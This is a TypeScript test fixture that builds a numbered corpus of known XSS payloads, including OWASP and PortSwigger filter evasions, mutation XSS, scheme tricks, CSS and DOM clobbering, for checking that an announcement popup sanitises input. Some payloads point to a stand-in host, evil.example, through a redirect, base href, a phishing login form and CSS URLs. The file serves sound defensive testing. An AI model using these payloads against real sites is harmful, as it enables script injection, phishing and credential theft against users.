/**
 * Known XSS payloads for the announcement popup's corpus test (e2e/tests/xss.spec.ts: a corpus of at
 * least 150 known XSS payloads), written out by family: the OWASP XSS filter-evasion cheat sheet, PortSwigger's
 * cheat sheet (event handlers on many tags), mutation XSS and namespace confusion (noscript, svg, math, template,
 * mglyph), scheme tricks (javascript:, data:, vbscript: with entities, whitespace and case), srcdoc, meta refresh,
 * base href, form actions, CSS (expression, url(), bindings), DOM clobbering, and nested or mangled markup.
 *
 * Each payload is written around `js`, the call that proves it ran: `__xss(n)` for payload n, which the test
 * defines and watches (a frame's document calls `parent.__xss(n)`).
 */

type Payload = (js: string) => string;

/** Every character as a decimal entity: &#106;&#97;… */
const dec = (s: string) => [...s].map((c) => `&#${c.charCodeAt(0)};`).join('');
/** Decimal entities zero-padded to 7 digits, without semicolons (OWASP). */
const decPadded = (s: string) => [...s].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`).join('');
/** Hexadecimal entities: &#x6A;… */
const hex = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16).toUpperCase()};`).join('');
/** Hexadecimal entities without semicolons (OWASP). */
const hexBare = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join('');
const b64 = (s: string) => Buffer.from(s).toString('base64');
const svgOnload = (js: string) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`;

const SCRIPT_ELEMENTS: Payload[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT>${js}</SCRIPT>`,
  (js) => `<script type="text/javascript">${js};</script>`,
  (js) => `<script type="module">${js}</script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<script src="data:;base64,${b64(js)}"></script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<<script>${js};//<</script>`,
  (js) => `<script/xss>${js}</script>`,
  (js) => `<script ~~~>${js}</script ~~~>`,
  (js) => `<script>document.write('<img src=x onerror=${js}>')</script>`,
  (js) => `<script>setTimeout('${js}')</script>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script xlink:href="data:,${js}"></script></svg>`,
  (js) => `<script\u000c>${js}</script>`,
];

const IMAGES: Payload[] = [
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<IMG SRC=x ONERROR=${js}>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img src=x onerror='${js}'>`,
  (js) => `<img src=x onerror=\`${js}\`>`,
  (js) => `<img/src=x/onerror=${js}>`,
  (js) => `<img src=x:x onerror=${js}>`,
  (js) => `<img src onerror=${js}>`,
  (js) => `<img src=x onerror="${dec(js)}">`,
  (js) => `<img src=x onerror=eval(atob('${b64(js)}'))>`,
  (js) => `<img """><script>${js}</script>">`,
  (js) => `<IMG SRC="javascript:${js};">`,
  (js) => `<IMG SRC=javascript:${js}>`,
  (js) => `<IMG SRC=JaVaScRiPt:${js}>`,
  (js) => `<IMG SRC=\`javascript:${js}\`>`,
  (js) => `<IMG SRC=${dec(`javascript:${js}`)}>`,
  (js) => `<IMG SRC=${decPadded(`javascript:${js}`)}>`,
  (js) => `<IMG SRC=${hexBare(`javascript:${js}`)}>`,
  (js) => `<IMG SRC="jav\tascript:${js};">`,
  (js) => `<IMG SRC="jav&#x09;ascript:${js};">`,
  (js) => `<IMG SRC="jav&#x0A;ascript:${js};">`,
  (js) => `<IMG SRC="jav&#x0D;ascript:${js};">`,
  (js) => `<IMG SRC=" &#14;  javascript:${js};">`,
  (js) => `<IMG DYNSRC="javascript:${js}">`,
  (js) => `<IMG LOWSRC="javascript:${js}">`,
  (js) => `<img srcset=",,,,,x" onerror=${js}>`,
  (js) => `<image src=x onerror=${js}>`,
  (js) => `<img src=1 onload=${js}>`,
  (js) => `<IMG onmouseover="${js}" src=x>`,
  (js) => `<img src=x onerror=window['__xss'](${js.replace(/\D/g, '')})>`,
];

/** Handlers that fire by themselves once the element is in the page (no click needed). */
const SELF_FIRING: ((tag: string, js: string) => string)[] = [
  (tag, js) => `<${tag} style="animation-name:spin;animation-duration:1s" onanimationstart=${js}>x</${tag}>`,
  (tag, js) => `<${tag} tabindex=1 autofocus onfocus=${js}>x</${tag}>`,
  (tag, js) => `<${tag} id=x tabindex=1 onfocusin=${js} autofocus>x</${tag}>`,
  (tag, js) => `<${tag} style="animation:spin 1s" onanimationend=${js}>x</${tag}>`,
  (tag, js) => `<${tag} onmouseover=${js} style="display:block;position:fixed;inset:0">x</${tag}>`,
  (tag, js) => `<${tag} style="transition:outline 1s" ontransitionrun=${js} tabindex=1 autofocus>x</${tag}>`,
];
const TAGS = [
  'a',
  'abbr',
  'address',
  'article',
  'aside',
  'b',
  'bdi',
  'bdo',
  'blockquote',
  'center',
  'cite',
  'code',
  'dd',
  'del',
  'dfn',
  'div',
  'dl',
  'dt',
  'em',
  'fieldset',
  'figure',
  'font',
  'footer',
  'h1',
  'header',
  'i',
  'ins',
  'kbd',
  'label',
  'li',
  'main',
  'mark',
  'nav',
  'ol',
  'p',
  'pre',
  'q',
  's',
  'section',
  'small',
  'span',
  'strike',
  'strong',
  'sub',
  'summary',
  'sup',
  'table',
  'time',
  'u',
  'ul',
  'var',
  'custom-tag',
];
const EVENT_HANDLERS: Payload[] = [
  ...TAGS.map(
    (tag, i): Payload =>
      (js) =>
        SELF_FIRING[i % SELF_FIRING.length]!(tag, js),
  ),
  (js) => `<body onload=${js}>`,
  (js) => `<body onpageshow=${js}>`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg/onload=${js}>`,
  (js) => `<iframe onload=${js}></iframe>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
  (js) => `<textarea autofocus onfocus=${js}></textarea>`,
  (js) => `<keygen autofocus onfocus=${js}>`,
  (js) => `<button autofocus onfocus=${js}>x</button>`,
  (js) => `<details open ontoggle=${js}><summary>x</summary></details>`,
  (js) => `<div popover id=pop onbeforetoggle=${js}>x</div><button popovertarget=pop>x</button>`,
  (js) => `<video src=x onerror=${js}></video>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}></audio>`,
  (js) => `<object data=x onerror=${js}></object>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<marquee loop=1 width=0 onfinish=${js}>x</marquee>`,
  (js) => `<style onload=${js}></style>`,
  (js) => `<link rel=stylesheet href=x onerror=${js}>`,
  (js) => `<script src=x onerror=${js}></script>`,
  (js) => `<input type=image src=x onerror=${js}>`,
];

const MUTATION: Payload[] = [
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  (js) => `<noscript><style></noscript><img src=x onerror=${js}>`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${js}&gt;">`,
  (js) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) => `<math><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text x=20 y=20>x</text></a></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  (js) => `<svg><a><animate attributeName=href values=javascript:${js} /><text x=20 y=20>x</text></a></svg>`,
  (js) => `<template><img src=x onerror=${js}></template>`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<title><img src=x onerror=${js}></title>`,
  (js) => `<textarea><img title="</textarea><img src=x onerror=${js}>">`,
  (js) => `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  (js) => `<iframe><p title="</iframe><img src=x onerror=${js}>">`,
  (js) => `<noembed><img title="</noembed><img src=x onerror=${js}>">`,
  (js) => `<noframes><img title="</noframes><img src=x onerror=${js}>">`,
  (js) => `<select><template><style><img src=x onerror=${js}></style></template></select>`,
  (js) => `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>`,
  (js) => `<math><style><img src=x onerror=${js}></style></math>`,
  (js) => `<svg><title><style><img src=x onerror=${js}></style></title></svg>`,
  (js) => `<table><svg><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<p><svg><p><style><img src=x onerror=${js}>`,
  (js) => `<svg><p><style><a title="</style><img src=x onerror=${js}>">`,
  (js) =>
    `<math><mi><mglyph><svg><mtext><style><img src=x onerror=${js}></style></mtext></svg></mglyph></mi></math>`,
];

const SCHEMES: Payload[] = [
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<a href="JAVASCRIPT:${js}">x</a>`,
  (js) => `<a href=" javascript:${js}">x</a>`,
  (js) => `<a href="java&#0;script:${js}">x</a>`,
  (js) => `<a href="jav&#x09;ascript:${js}">x</a>`,
  (js) => `<a href="jav&Tab;ascript:${js}">x</a>`,
  (js) => `<a href="jav&NewLine;ascript&colon;${js}">x</a>`,
  (js) => `<a href="${dec(`javascript:${js}`)}">x</a>`,
  (js) => `<a href="${hex(`javascript:${js}`)}">x</a>`,
  (js) => `<a href="${hexBare(`javascript:${js}`)}">x</a>`,
  (js) => `<a href="javascript&colon;${js}">x</a>`,
  (js) => `<a href=javas&#99;ript:${js}>x</a>`,
  (js) => `<a href="javascript:void(0)" onclick="${js}">x</a>`,
  (js) => `<a href="javascript://%0a${js}">x</a>`,
  (js) =>
    `<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/&quot;/+/onmouseover=1/+/[*/[]/+${js}//'>">x</a>`,
  (js) => `<a href="vbscript:msgbox(${js})">x</a>`,
  (js) => `<a href="VBScript:${js}">x</a>`,
  (js) => `<a href="livescript:${js}">x</a>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">x</a>`,
  (js) => `<a href="data:text/html;base64,${b64(`<script>${js}</script>`)}">x</a>`,
  (js) => `<a href="DATA:text/html,<script>${js}</script>">x</a>`,
  (js) => `<a href="  data:text/html,<script>${js}</script>">x</a>`,
  (js) => `<img src="data:image/svg+xml;base64,${b64(svgOnload(js))}">`,
  (js) => `<img src="data:image/svg+xml,<svg onload=${js}>">`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<iframe/src="javascript:${js}"></iframe>`,
  (js) => `<iframe src="data:text/html,<script>parent.${js}</script>"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<object data="data:text/html;base64,${b64(`<script>parent.${js}</script>`)}"></object>`,
  (js) => `<embed src="data:image/svg+xml;base64,${b64(svgOnload(`parent.${js}`))}">`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<map name=m><area href="javascript:${js}" shape=default></map><img usemap=#m src=x>`,
  (js) => `<table background="javascript:${js}"><tr><td>x</td></tr></table>`,
  (js) => `<img src=x srcset="javascript:${js} 1x">`,
  (js) => `<video poster="javascript:${js}"></video>`,
  (js) => `<a href="https://example.com/" ping="javascript:${js}">x</a>`,
  (js) => `<q cite="javascript:${js}">x</q>`,
  (js) => `<blockquote cite="javascript:${js}">x</blockquote>`,
  (js) => `<link rel=import href="data:text/html,<script>${js}</script>">`,
  (js) =>
    `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${js}"/></svg>`)}#x"/></svg>`,
];

/** srcdoc, meta refresh, base href and forms: whatever could run, navigate or submit from the popup. */
const DOCUMENT_LEVEL: Payload[] = [
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="&lt;img src=x onerror=parent.${js}&gt;"></iframe>`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js) =>
    `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${js}</script>`)}">`,
  (js) => `<meta http-equiv="refresh" content="0; url=https://evil.example/?${encodeURIComponent(js)}">`,
  (js) => `<meta http-equiv="Set-Cookie" content="xss=${encodeURIComponent(js)}">`,
  (js) => `<base href="https://evil.example/"><a href="/${encodeURIComponent(js)}">x</a><img src=x>`,
  (js) => `<base href="javascript:${js}//"><a href="/x">x</a>`,
  (js) => `<base target=_top><a href="/m/login?${encodeURIComponent(js)}">x</a>`,
  (js) =>
    `<form action="https://evil.example/phish?${encodeURIComponent(js)}"><input name=password type=password><button>Log in</button></form>`,
  (js) => `<form action="javascript:${js}"><input type=submit autofocus></form>`,
  (js) => `<form><button formaction="javascript:${js}">x</button></form>`,
  (js) => `<form id=f></form><button form=f formaction="javascript:${js}">x</button>`,
  (js) => `<isindex action="javascript:${js}" type=submit>`,
];

const CSS: Payload[] = [
  (js) => `<style>@import "javascript:${js}";</style>`,
  (js) => `<style>body{background:url("javascript:${js}")}</style>`,
  (js) => `<style>*{behavior:url(#default#time2)}</style><img src=x onerror=${js}>`,
  (js) => `<div style="background-image:url(javascript:${js})">x</div>`,
  (js) => `<div style="width:expression(${js})">x</div>`,
  (js) => `<div style="xss:expr/*XSS*/ession(${js})">x</div>`,
  (js) => `<div style="background:url(data:image/svg+xml;base64,${b64(svgOnload(js))})">x</div>`,
  (js) => `<div style="list-style-image:url(javascript:${js})">x</div>`,
  (js) => `<div style="background:u\\72l(javascript:${js})">x</div>`,
  (js) => `<div style="-moz-binding:url(https://evil.example/xss.xml#${encodeURIComponent(js)})">x</div>`,
  (js) => `<link rel=stylesheet href="data:text/css,body{background:url(javascript:${js})}">`,
  (js) => `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart=${js}>x</div>`,
  (js) =>
    `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff" onclick=${js}>Session expired: log in again</div>`,
  (js) => `<p style="font-family:'</style><img src=x onerror=${js}>'">x</p>`,
  (js) =>
    `<span style="color:red;background:url('https://evil.example/${encodeURIComponent(js)}.png')">x</span>`,
];

/** Names that would shadow the DOM's own (a clobbered global or document property). */
const CLOBBERING: Payload[] = [
  () => `<img name=getElementById><form name=cookie></form>`,
  (js) => `<a id=__xss href="javascript:${js}">x</a>`,
  () => `<form id=location></form><img name=defaultView>`,
  (js) => `<a id=CONFIG></a><a id=CONFIG name=url href="javascript:${js}">x</a>`,
  () => `<form name=body><input name=innerHTML></form>`,
  () => `<img id=documentElement><img id=scripts>`,
  () => `<iframe name=__xssHits></iframe>`,
  () => `<object name=alert data=x></object>`,
  (js) => `<form id=x><output id=y>${js}</output></form>`,
  () => `<embed name=open src=x>`,
];

const MANGLED: Payload[] = [
  (js) => `<<img src=x onerror=${js}//<`,
  (js) => `<img src=x onerror=${js}//`,
  (js) => `"><img src=x onerror=${js}>`,
  (js) => `'><svg onload=${js}>`,
  (js) => `</title><img src=x onerror=${js}>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</style><script>${js}</script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<!--<img src="--><img src=x onerror=${js}//">`,
  (js) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  (js) => `<? foo="><script>${js}</script>">`,
  (js) => `<a title="</a><img src=x onerror=${js}>">x</a>`,
  (js) => `<div><p>unclosed<img src=x onerror=${js}>`,
  (js) => `<img src=x onerror =${js}>`,
  (js) => `<scr\u00adipt>${js}</scr\u00adipt>`,
  (js) => `<a href="https://example.com/">safe</a><a/href="javascript&colon;${js}">x</a>`,
  (js) => `<div id="1"><form id="t"></form><button form="t" formaction="javascript:${js}">X</button></div>`,
  (js) => `<ScRiPt>${js}</sCrIpT>`,
  (js) => `<img src=x oNeRrOr=${js}>`,
];

/**
 * Markup that takes what follows with it: a frameset replaces the body while nothing else is in it; a form inside
 * mathml leaves the parser in foreign content. Last in the corpus, so that in its item it takes nothing else.
 */
const SWALLOWING: Payload[] = [
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  (js) => `<frameset onload=${js}>`,
];

const FAMILIES: [string, Payload[]][] = [
  ['script elements', SCRIPT_ELEMENTS],
  ['images and OWASP filter evasion', IMAGES],
  ['event handlers on many tags', EVENT_HANDLERS],
  ['mutation XSS and namespace confusion', MUTATION],
  ['javascript:, data: and vbscript: URLs', SCHEMES],
  ['srcdoc, meta refresh, base href, forms', DOCUMENT_LEVEL],
  ['CSS', CSS],
  ['DOM clobbering', CLOBBERING],
  ['nested and mangled tags', MANGLED],
  ['markup that swallows what follows', SWALLOWING],
];

export interface XssPayload {
  /** Its number: the payload calls `__xss(n)` when it runs. */
  n: number;
  family: string;
  html: string;
}

/** The corpus, numbered from 1. */
export const XSS_PAYLOADS: readonly XssPayload[] = FAMILIES.flatMap(([family, payloads]) =>
  payloads.map((payload) => ({ family, payload })),
).map(({ family, payload }, i) => ({ n: i + 1, family, html: payload(`__xss(${i + 1})`) }));
